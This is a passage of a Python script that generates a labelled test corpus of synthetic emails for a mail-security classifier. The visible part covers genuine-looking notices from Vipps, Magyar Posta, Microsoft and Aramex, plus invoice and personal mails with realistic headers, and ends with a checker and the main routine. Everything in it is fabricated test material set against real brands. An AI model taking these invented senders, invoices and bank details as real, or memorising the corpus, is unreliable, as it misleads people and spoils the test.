              ip="185.82.208.15", helo="mta15.e-bulten.garantibbva.com.tr", mailfrom=f"bounce-{hx(name, 16)}@e-bulten.garantibbva.com.tr",
              dkim=("e-bulten.garantibbva.com.tr", "ems"), p="QUARANTINE", extra=extra)

    n = "no-vipps-receipt"
    name = "b18-bulk-" + n
    title = "Kvittering"
    paras = ["Takk for kjøpet!", "Du betalte <b>1 249,00 kr</b> til <b>Bergen Sykkelsenter AS</b> 05.10.2024 kl. 14:22.",
             "Ordrenummer: 10048817<br>Betalt med: Visa •••• 2291<br>Org.nr. 918 442 107", "Kvitteringen finner du også i Vipps-appen under Aktivitet."]
    foot = ["Vipps MobilePay AS, Dronning Eufemias gate 42, 0191 Oslo", "Har du spørsmål om kjøpet? Kontakt Bergen Sykkelsenter AS direkte."]
    bulk_send(n, "Genuine Vipps MobilePay purchase receipt from vipps.no (DMARC pass), only a help link to vipps.no.",
              rx=OUTL, rcpt="sindre.moe@hotmail.com", t=T("2024-10-05 14:22:40", "Europe/Oslo"), frm=addr("Vipps MobilePay", "no-reply@vipps.no"),
              subject="Kvittering fra Bergen Sykkelsenter AS",
              body=alt(name, "sg", plain(title, paras, footer=foot),
                       esp_html("nb", "Vipps MobilePay", "#ff5b24", "https://vipps.no/media/images/vipps-mobilepay-logo.png", title, paras, footer=foot, links=[("Hjelp", "https://vipps.no/hjelp/")])),
              ip="167.89.58.41", helo="o3.email.vipps.no", mailfrom=f"bounces+2918344-{hx(name, 4)}-sindre.moe=hotmail.com@email.vipps.no",
              dkim=("vipps.no", "s1"), mid=f"<{alnum(name, 22)}@geopod-ismtpd-{num(name, 1, 40)}>")

    n = "hu-magyarposta-delivery-today"
    name = "b18-bulk-" + n
    title = "Küldeményét ma kézbesítjük"
    paras = ["Tisztelt Kovács Éva!", "Tájékoztatjuk, hogy a(z) <b>CE481039256HU</b> azonosítójú küldeményét ma kézbesítjük. Feladó: Alza.hu Kft.",
             "A küldemény várható kézbesítési ideje: 2023. november 9., 10:00–14:00.", "A küldemény aktuális állapotát a Posta honlapján, a nyomkövetés menüpontban követheti."]
    url = "https://www.posta.hu/nyomkovetes/nyitooldal?searchvalue=CE481039256HU"
    foot = ["Magyar Posta Zrt. · 1138 Budapest, Dunavirág utca 2-6. · Ügyfélszolgálat: +36 1 767 8200", "Ez egy automatikusan generált üzenet, kérjük, ne válaszoljon rá."]
    bulk_send(n, "Genuine Magyar Posta delivery-today notice from posta.hu (DMARC pass) with a tracking link on posta.hu and no payment request.",
              rx=FREEMAIL, rcpt="kovacs.eva@freemail.hu", t=T("2023-11-09 07:31:05", "Europe/Budapest"), frm=addr("Magyar Posta", "noreply@posta.hu"),
              subject="Küldeménye ma érkezik – CE481039256HU",
              body=alt(name, "java", plain(title, paras, "Nyomkövetés", url, foot),
                       esp_html("hu", "Magyar Posta", "#c8102e", "https://www.posta.hu/static/internet/images/posta_logo.png", title, paras, "Nyomkövetés", url, foot)),
              ip="193.224.64.12", helo="mail.posta.hu", mailfrom="noreply@posta.hu", dkim=("posta.hu", "mp1"), p="QUARANTINE")

    n = "fi-microsoft-unusual-signin"
    name = "b18-bulk-" + n
    title = "Microsoft-tilin epätavallinen kirjautumistoiminta"
    paras = ["Havaitsimme jotain epätavallista viimeaikaisessa kirjautumisessa Microsoft-tilille <b>ha*****@outlook.com</b>.",
             "<b>Kirjautumisen tiedot</b><br>Maa/alue: Brasilia<br>IP-osoite: 201.182.53.19<br>Päivämäärä: 22.6.2023 3.14 (GMT)<br>Ympäristö: Windows<br>Selain: Chrome",
             "Huomasimme, että kirjautuminen tapahtui epätavallisesta sijainnista. Jos tämä olit sinä, voit ohittaa tämän sähköpostin. Jos tämä ei ollut sinä, joku muu on ehkä käyttänyt tiliäsi. Tarkista viimeaikainen toiminta, niin autamme sinua suojaamaan tilisi."]
    url = "https://account.live.com/Activity"
    foot = [f'Voit myös <a href="https://account.live.com/SecurityNotifications/Update">lopettaa näiden ilmoitusten vastaanottamisen</a>.', "Kiitos,<br>Microsoft-tilin tiimi",
            '<a href="https://go.microsoft.com/fwlink/?LinkId=521839">Tietosuojatiedot</a> · Microsoft Corporation, One Microsoft Way, Redmond, WA 98052']
    t = T("2023-06-22 03:20:11", "UTC")
    hops, box, helo, ip = hops_o365_out(name, "namprd11", t)
    head = [f"From: {addr('Microsoft-tilin tiimi', 'account-security-noreply@accountprotection.microsoft.com')}", "To: hannu.makela@outlook.com",
            f"Subject: {enc(title)}", "Date: %DATE%", f"Message-ID: <{uid(name).upper()}@{box}.namprd11.prod.outlook.com>", "MIME-Version: 1.0",
            "X-MSAPipeline: MessageDispatcher"]
    add("bulk", "bulk", n, "Genuine Microsoft account unusual-sign-in alert in Finnish from accountprotection.microsoft.com (DMARC pass) linking to account.live.com.",
        rx=OUTL, rcpt="hannu.makela@outlook.com", t=t, ip=ip, helo=helo, mailfrom="account-security-noreply@accountprotection.microsoft.com",
        dkim=("accountprotection.microsoft.com", "s1024-meo"), dmarc="pass", p="REJECT", hops=hops, head=head,
        body=alt(name, "outlook", plain(title, paras, "Tarkista viimeaikainen toiminta", url, foot),
                 esp_html("fi", "Microsoft", "#2672ec", "https://acctcdn.msauth.net/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.png", title, paras, "Tarkista viimeaikainen toiminta", url, foot)),
        hlist=MS_HL, spam=0.2, scl=1)

    n = "ae-aramex-out-for-delivery"
    name = "b18-bulk-" + n
    title = "Your shipment is out for delivery"
    paras = ["Dear Priya Nair,", "Your shipment from AMAZON.AE with waybill number <b>3861220947</b> is out for delivery today and will be delivered by our courier between 13:00 and 17:00.",
             "Delivery address: Al Barsha 1, Dubai<br>Amount due: AED 0.00 (prepaid)", "You can track your shipment or change your delivery preferences on aramex.com or in the Aramex app."]
    url = f"https://click.mc.aramex.com/?qs={hx(name + 'trk', 96)}"
    foot = ["Aramex International LLC, Dubai, UAE", "Please do not reply to this email."]
    bulk_send(n, "Genuine Aramex out-for-delivery notice (prepaid, nothing to pay) sent via Salesforce Marketing Cloud with aramex.com DKIM and tracking links.",
              rx=ETISALAT, rcpt="priya.nair@emirates.net.ae", t=T("2024-11-06 09:15:41", "Asia/Dubai"), frm=addr("Aramex", "no-reply@aramex.com"),
              subject="Your shipment 3861220947 is out for delivery",
              body=alt(name, "sfmc", plain(title, paras, "Track shipment", url, foot),
                       esp_html("en", "Aramex", "#e30613", "https://image.mc.aramex.com/lib/fe9115707564077c71/m/1/aramex-logo.png", title, paras, "Track shipment", url, foot,
                                pixel=f"https://click.mc.aramex.com/open.aspx?ffcb10-{hx(name + 'op', 60)}")),
              ip="13.111.28.41", helo="mta.mc.aramex.com", mailfrom=f"bounce-12_HTML-{num(name, 10000000, 99999999)}-{num(name + 'j', 100000, 999999)}-110005-7@bounce.mc.aramex.com",
              dkim=("aramex.com", "200608"), mid=f"<{uid(name)}@ind1s06mta791.xt.local>", extra=["x-job: 110005_" + str(num(name + "j", 100000, 999999))])

    n = "tr-yurtici-shipped"
    name = "b18-bulk-" + n
    title = "Kargonuz yola çıktı"
    paras = ["Sayın ZEYNEP KAYA,", "TRENDYOL tarafından gönderilen <b>104829173645</b> takip numaralı kargonuz çıkış şubemizden yola çıkmıştır.",
             "Tahmini teslim tarihi: 21.12.2023", "Kargonuzun durumunu yurticikargo.com adresinden veya Yurtiçi Kargo mobil uygulamasından takip edebilirsiniz."]
    url = "https://www.yurticikargo.com/tr/online-servisler/gonderi-sorgula?code=104829173645"
    foot = ["Yurtiçi Kargo Servisi A.Ş. | Çağrı Merkezi: 444 99 99", "Bu e-posta bilgilendirme amaçlıdır, lütfen yanıtlamayınız."]
    bulk_send(n, "Genuine Yurtiçi Kargo shipped notice for a Trendyol order from yurticikargo.com (DMARC pass) with a tracking link on the real site.",
              rx=GM, rcpt="zeynep.kaya@gmail.com", t=T("2023-12-20 08:44:12", "Europe/Istanbul"), frm=addr("Yurtiçi Kargo", "bilgilendirme@yurticikargo.com"),
              subject="Kargonuz yola çıktı - 104829173645",
              body=alt(name, "java", plain(title, paras, "Kargo Takip", url, foot),
                       esp_html("tr", "Yurtiçi Kargo", "#0047ba", "https://www.yurticikargo.com/Content/images/logo.png", title, paras, "Kargo Takip", url, foot)),
              ip="185.64.218.20", helo="smtp2.yurticikargo.com", mailfrom="bilgilendirme@yurticikargo.com", dkim=("yurticikargo.com", "yk"), p="QUARANTINE")


# ============================================================================= legitimate: business and personal mail

def legit_clean():
    # Swedish internal mail via Loopia, Outlook desktop, invoice PDF
    n = "sv-internal-invoice-attest"
    name = "b18-legit-" + n
    t = T("2023-09-14 08:52:10", "Europe/Stockholm")
    txt = ("Hej Anders,\n\nHär kommer fakturan från Colorama för septemberleveransen (färg till Solbackens förskola). Beloppet stämmer mot följesedeln, "
           "18 437,50 kr inkl. moms, förfallodag 14 oktober.\n\nKan du attestera så lägger jag in den i betalningen på fredag?\n\nHälsningar\nKarin\n\n"
           "Karin Ek\nEkonomi\nNymans Färg & Tapet AB\nStorgatan 12, 852 30 Sundsvall\n060-12 34 56\n")
    pdfdata = pdf_doc(["Colorama Grossist AB", "FAKTURA 88412", "Fakturadatum: 2023-09-13    Förfallodatum: 2023-10-14", "Kund: Nymans Färg & Tapet AB, kundnr 20417", "",
                       "Väggfärg Bris 7, 10 l       x 24     11 280,00", "Takfärg Vit, 10 l          x 8       2 840,00", "Spackel LH, 10 l           x 6          630,00", "",
                       "Summa exkl. moms                       14 750,00", "Moms 25 %                               3 687,50", "Att betala SEK                          18 437,50", "",
                       "Bankgiro 5521-0874   OCR 884122041701"], "Faktura 88412", producer="Visma Business PDF")
    head = [f"From: {addr('Karin Ek', 'karin.ek@nymansfarg.se')}", f"To: {addr(chr(39) + 'Anders Nyman' + chr(39), 'anders@nymansfarg.se')}",
            f"Subject: {enc('Faktura Colorama 88412 – attest')}", "Date: %DATE%",
            f"Message-ID: <00{hx(name, 2)}01d9e6{hx(name + 'a', 2)}${hx(name + 'b', 8)}${hx(name + 'c', 8)}$@nymansfarg.se>", "MIME-Version: 1.0",
            "X-Mailer: Microsoft Outlook 16.0", f"Thread-Index: Adnm{b64(name + 'ti', 24)}", "Content-Language: sv"]
    body = Multi("mixed", boundary(name, "other"), [Multi("alternative", boundary(name + "a", "other"), [text(txt), text(outlook_html(txt), "html")]),
                                                    attachment("application/pdf", "Faktura_88412_Colorama.pdf", pdfdata)])
    add("clean", "legit", n, "Internal mail at a small Swedish paint shop: the bookkeeper sends a supplier invoice PDF to the owner for approval via the company's Loopia mailbox (SPF aligned, DMARC pass).",
        rx=LOOPIA, rcpt="anders@nymansfarg.se", t=t, ip="93.188.3.12", helo="s471.loopia.se", mailfrom="karin.ek@nymansfarg.se", dmarc="pass", p="NONE",
        hops=[f"Received: from DESKTOP-4KQ7LBE (c-81-229-44-102.bbcust.telenor.se [81.229.44.102])\n\t(Authenticated sender: karin.ek@nymansfarg.se)\n"
              f"\tby s471.loopia.se (Postfix) with ESMTPSA id {hx(name, 10).upper()}\n\tfor <anders@nymansfarg.se>; {fdz(t + timedelta(seconds=1), 'Europe/Stockholm')}"],
        head=head, body=body, spam=0.9)

    # Danish supplier invoice, genuine domain, O365
    n = "da-supplier-invoice-pdf"
    txt = ("Hej\n\nVedhæftet faktura 24-1187 for levering af rør og fittings (ordre 55871). Betalingsbetingelser: løbende måned + 30 dage.\n\n"
           "Med venlig hilsen\nLone Damgaard\nBogholder\nNordisk Rørhandel ApS\nIndustrivej 14, 7400 Herning\nTlf. +45 97 12 44 80\n")
    pdfdata = pdf_doc(["Nordisk Rørhandel ApS - CVR 31 44 82 19", "FAKTURA 24-1187", "Fakturadato: 04.11.2024   Forfald: 31.12.2024", "Kunde: Vestjysk VVS ApS, kundenr. 1042",
                       "Ordre 55871", "", "PEX-rør 16 mm, 100 m        x 6       8.940,00", "Pressfittings ass.          x 40     21.350,00", "Messing kugleventiler      x 60     37.160,00", "",
                       "Subtotal                              67.450,00", "Moms 25 %                             16.862,50", "I alt DKK                             84.312,50", "",
                       "Betaling: Jyske Bank  Reg. 7660  Konto 1048822"], "Faktura 24-1187", producer="e-conomic")
    o365_send("clean", "legit", n, "Genuine supplier invoice from the real nordiskroerhandel.dk Microsoft 365 mailbox (DMARC pass) with the PDF and the supplier's usual bank account.",
              rx=ONECOM, rcpt="bogholderi@vestjysk-vvs.dk", t=T("2024-11-04 14:27:18", "Europe/Copenhagen"),
              frm="Lone Damgaard <lone.damgaard@nordiskroerhandel.dk>", to="bogholderi@vestjysk-vvs.dk", subject="Faktura 24-1187 – Vestjysk VVS",
              lang="da-DK", txt=txt, region="eurprd08", p="QUARANTINE", attach=[attachment("application/pdf", "Faktura_24-1187.pdf", pdfdata)], spam=0.3)

    # Norwegian friends, Gmail, photos
    n = "no-friends-cabin-photos"
    name = "b18-legit-" + n
    txt = ("Hei Tor!\n\nHer er noen av bildene fra helgen på Finse. Det siste er fra toppen av Hardangerjøkulen – for en dag! "
           "Resten ligger i det delte albumet på Google Foto, lenke kommer.\n\nTakk for at du kjørte, vi må gjøre det igjen i august.\n\nKlem\nIngvild\n")
    body = Multi("mixed", boundary(name + "m", "gmail"), [gtext(name, txt),
                                                          attachment("image/jpeg", "IMG_4471.jpg", files.photo_jpeg(18)),
                                                          attachment("image/jpeg", "IMG_4502.jpg", files.photo_jpeg(29))])
    gmail_send("clean", "legit", n, "Personal Gmail-to-Gmail message between friends with two holiday photos attached; everything passes.",
               rx=GM, rcpt="tor.eriksen@gmail.com", t=T("2024-07-22 21:14:33", "Europe/Oslo"), frm="Ingvild Berg <ingvild.berg91@gmail.com>",
               to="Tor Eriksen <tor.eriksen@gmail.com>", subject="Bilder fra hytteturen 🏔️", body=body, spam=0.1, scl=1)

    # Polish friends, wp.pl webmail -> gmail
    n = "pl-friends-grill-invite"
    name = "b18-legit-" + n
    t = T("2023-08-19 09:41:12", "Europe/Warsaw")
    txt = ("Cześć Tomek,\n\nw sobotę robimy grilla u nas na działce w Zielonkach, start koło 16. Weź Magdę i dzieciaki, będzie też Krzysiek z Olą. "
           "Jak chcesz, to przywieź ten rower, o którym pisałeś – Kuba szuka czegoś na lato, może się dogadacie.\n\nDaj znać, czy będziecie, to kupię więcej kiełbasy :)\n\nMarek\n")
    head = [f"Date: %DATE%", f"From: {addr('Marek Lewandowski', 'marek.lewandowski@wp.pl')}", "To: tomasz.nowak88@gmail.com",
            f"Message-ID: <{hx(name, 32)}@grzegorz.wp.pl>", f"Subject: {enc('Grill w sobotę?', 'Q')}", "MIME-Version: 1.0",
            f"X-WP-MailID: {hx(name + 'w', 32)}", "X-WP-AV: skaner antywirusowy Poczty Wirtualnej Polski", "X-WP-SPAM: NO 0000000 [cUNU]"]
    add("clean", "legit", n, "Personal plain-text mail from a wp.pl webmail user to a friend's Gmail about a weekend barbecue; wp.pl DKIM and DMARC pass.",
        rx=GM, rcpt="tomasz.nowak88@gmail.com", t=t, ip="212.77.101.12", helo="mx4.wp.pl", mailfrom="marek.lewandowski@wp.pl",
        dkim=("wp.pl", "1024a"), dmarc="pass", p="NONE", head=head, body=text(txt, "plain", "quoted-printable", "utf-8"),
        hops=[f"Received: (wp-smtpd smtp.wp.pl 2130 invoked from network); {fd(t + timedelta(seconds=1))}",
              f"Received: from unknown (HELO poczta.wp.pl) (marek.lewandowski@[83.26.91.40])\n          (envelope-sender <marek.lewandowski@wp.pl>)\n"
              f"          by smtp.wp.pl (WP-SMTPD) with SMTP\n          for <tomasz.nowak88@gmail.com>; {fd(t + timedelta(seconds=1))}"])

    # UAE logistics partner thread
    n = "ae-logistics-partner-thread"
    txt = ("Dear Rania,\n\nThank you for the payment confirmation. Container MSKU 719204-3 has been released from Jebel Ali this morning and will be delivered to your Al Quoz warehouse "
           "tomorrow between 9 and 11 AM. Driver details will follow on WhatsApp from our dispatch team.\n\n"
           "Attached is the final invoice for the clearance and transport (AED 6,825.00 incl. VAT). Payment terms as usual, 30 days to our Emirates NBD account on file – no changes.\n\n"
           "Best regards,\nRajesh Menon\nOperations Manager | Al Noor Logistics LLC\nOffice 1204, Al Moosa Tower 2, Sheikh Zayed Road, Dubai\nT +971 4 331 8820 | M +971 50 412 7731\n\n"
           "From: Rania Haddad <accounts@gulfline-trading.ae>\nSent: Sunday, December 8, 2024 11:20 AM\nTo: Rajesh Menon <rajesh.menon@alnoor-logistics.ae>\n"
           "Subject: RE: Shipment GLT-2024-118 – container release and invoice\n\nDear Rajesh,\n\nCustoms duty payment done today, please find the receipt attached. "
           "Please arrange release and let us know the delivery slot.\n\nRegards,\nRania Haddad\nAccounts | Gulfline Trading LLC\n")
    pdfdata = pdf_doc(["AL NOOR LOGISTICS LLC - TRN 100384927100003", "TAX INVOICE INV-ANL-24-2291", "Date: 09/12/2024   Customer: Gulfline Trading LLC",
                       "Job: GLT-2024-118   Container: MSKU 719204-3", "", "Customs clearance                      1,450.00", "DO charges & port handling            2,300.00",
                       "Transport Jebel Ali - Al Quoz          2,750.00", "", "Subtotal                               6,500.00", "VAT 5%                                   325.00",
                       "Total AED                              6,825.00"], "INV-ANL-24-2291", producer="Tally.ERP 9")
    refs = [f"<DB9PR07MB{num(n, 1000, 9999)}{hx(n + 'a', 24).upper()}@DB9PR07MB{num(n + 'b', 1000, 9999)}.eurprd07.prod.outlook.com>",
            f"<DB9PR07MB{num(n + 'c', 1000, 9999)}{hx(n + 'd', 24).upper()}@DB9PR07MB{num(n + 'e', 1000, 9999)}.eurprd07.prod.outlook.com>"]
    o365_send("clean", "legit", n, "Genuine thread with a known logistics partner (Microsoft 365 to Microsoft 365, DMARC pass) confirming container release with the tax invoice PDF, explicitly no bank change.",
              rx=("ms", "eurprd07"), rcpt="accounts@gulfline-trading.ae", t=T("2024-12-09 10:05:41", "Asia/Dubai"),
              frm="Rajesh Menon <rajesh.menon@alnoor-logistics.ae>", to="Rania Haddad <accounts@gulfline-trading.ae>",
              subject="RE: Shipment GLT-2024-118 – container release and invoice", lang="en-US", txt=txt, region="apcprd06", refs=refs,
              attach=[attachment("application/pdf", "INV-ANL-24-2291.pdf", pdfdata)], spam=0.2, scl=1)

    # Romanian accountant to client, Thunderbird
    n = "ro-accountant-d300-receipt"
    name = "b18-legit-" + n
    t = T("2025-02-20 12:14:09", "Europe/Bucharest")
    txt = ("Bună ziua doamna Elena,\n\nVă trimit atașat recipisa de depunere pentru decontul de TVA (D300) aferent lunii ianuarie 2025, depus astăzi prin SPV. "
           "TVA de plată: 18.420 lei, termen de plată 25 februarie 2025.\n\nPlata se face în contul unic al Trezoreriei Oradea, cu codul fiscal al firmei, ca de obicei. "
           "Vă rog să-mi trimiteți ordinul de plată după ce îl efectuați, ca să-l atașez la dosar.\n\nCu stimă,\nCristina Dobre\nExpert contabil\nContExpert Oradea SRL\nTel. 0259 412 880\n")
    pdfdata = pdf_doc(["MINISTERUL FINANTELOR - AGENTIA NATIONALA DE ADMINISTRARE FISCALA", "RECIPISA", "Nr. inregistrare: INTERNT-418820391-2025 din 20.02.2025",
                       "Tip document: D300 - Decont de taxa pe valoarea adaugata", "Perioada de raportare: 01/2025", "CUI: 18442071   Denumire: AGROTRANS BIHOR SRL", "",
                       "Documentul a fost depus prin Spatiul Privat Virtual si a fost validat."], "Recipisa D300", producer="ANAF e-guvernare")
    head = [f"Message-ID: {mid_uuid(name, 'contexpert-oradea.ro')}", "Date: %DATE%", "MIME-Version: 1.0", "User-Agent: Mozilla Thunderbird", "Content-Language: ro",
            "To: contabilitate@agrotrans-bihor.ro", f"From: {addr('Cristina Dobre', 'cristina.dobre@contexpert-oradea.ro')}",
            f"Subject: {enc('Declarația D300 ianuarie 2025 – recipisă depunere')}"]
    add("clean", "legit", n, "The company's external accountant (own domain, Thunderbird, SPF/DKIM/DMARC pass) sends the ANAF D300 filing receipt and reminds of the Treasury payment; no link, no bank change.",
        rx=HOSTICO, rcpt="contabilitate@agrotrans-bihor.ro", t=t, ip="89.42.219.40", helo="mail.contexpert-oradea.ro", mailfrom="cristina.dobre@contexpert-oradea.ro",
        dkim=("contexpert-oradea.ro", "mail"), dmarc="pass", p="NONE", head=head,
        hops=[hop_pf("mail.contexpert-oradea.ro", "[192.168.0.105]", "86.124.77.201", t + timedelta(seconds=1), "Europe/Bucharest")],
        body=Multi("mixed", boundary(name, "tb"), [text(txt, "plain", "8bit"), attachment("application/pdf", "Recipisa_D300_ianuarie2025.pdf", pdfdata)]), spam=0.6)


# ============================================================================= write out and check

def check(path: Path) -> list[str]:
    problems = []
    msg = email.message_from_bytes(path.read_bytes(), policy=policy.default)
    if msg.defects:
        problems.append(f"message defects {msg.defects}")
    for k, v in msg.items():
        try:
            str(v)
            if getattr(v, "defects", None):
                problems.append(f"header {k}: {v.defects}")
        except Exception as exc:  # noqa: BLE001
            problems.append(f"header {k}: {exc}")
    if not str(msg["subject"] or "").strip():
        problems.append("empty subject")
    for part in msg.walk():
        if part.defects:
            problems.append(f"part {part.get_content_type()} defects {part.defects}")
        if part.get_content_maintype() == "text":
            try:
                part.get_content()
            except Exception as exc:  # noqa: BLE001
                problems.append(f"part {part.get_content_type()}: {exc}")
    return problems



# Filed after the first scan where the engine's classification puts them (the names keep the writer's kind).
REFILED = {
    "b18-bulk-cs-isds-delivery-notice": "clean",
    "b18-bulk-pl-edoreczenia-new-mail": "clean",
    "b18-bulk-pl-pko-wyciag-notice": "clean",
    "b18-bulk-tr-yurtici-shipped": "clean",
}

def main() -> None:
    attacks_se()
    attacks_no()
    attacks_dk()
    attacks_fi()
    attacks_pl()
    attacks_cz_ro_hu()
    attacks_tr_gulf()
    legit_bulk()
    legit_bulk2()
    legit_clean()
    names = [s[1] for s in SAMPLES]
    assert len(names) == len(set(names)), "duplicate sample names"
    lines = []
    counts: dict[str, int] = {}
    bad = 0
    for cat, name, data, desc in SAMPLES:
        cat = REFILED.get(name, cat)
        path = OUT / cat / f"{name}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        for problem in check(path):
            bad += 1
            print(f"{name}: {problem}")
        lines.append(f"samples/mail/{cat}/{name}.eml | {cat} | {desc}")
        counts[cat] = counts.get(cat, 0) + 1
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    attacks = sum(1 for s in SAMPLES if s[1].startswith("b18-phish-"))
    print(f"wrote {len(SAMPLES)} samples: {attacks} attacks, {len(SAMPLES) - attacks} legitimate; "
          + ", ".join(f"{k}={v}" for k, v in sorted(counts.items())) + (f"; {bad} problems" if bad else ""))


if __name__ == "__main__":
    main()
